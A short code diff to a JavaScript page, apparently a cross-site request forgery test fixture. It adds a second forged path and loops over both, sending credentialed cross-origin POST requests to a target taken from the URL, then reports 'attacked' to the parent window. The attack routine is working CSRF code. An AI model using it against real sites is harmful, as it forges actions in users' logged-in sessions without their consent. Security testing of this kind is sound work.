@@ -4,10 +4,12 @@
 const params = new URLSearchParams(location.search);
 const target = params.get('target');
 const path = params.get('path');
+const also = params.get('also');
 
 async function attack() {
-  if (target && path) {
-    await fetch(`${target}${path}`, { method: 'POST', credentials: 'include', mode: 'no-cors' }).catch(() => undefined);
+  for (const forged of [path, also]) {
+    if (!target || !forged) continue;
+    await fetch(`${target}${forged}`, { method: 'POST', credentials: 'include', mode: 'no-cors' }).catch(() => undefined);
   }
   window.parent.postMessage({ attacked: true }, target ?? '*');
 }
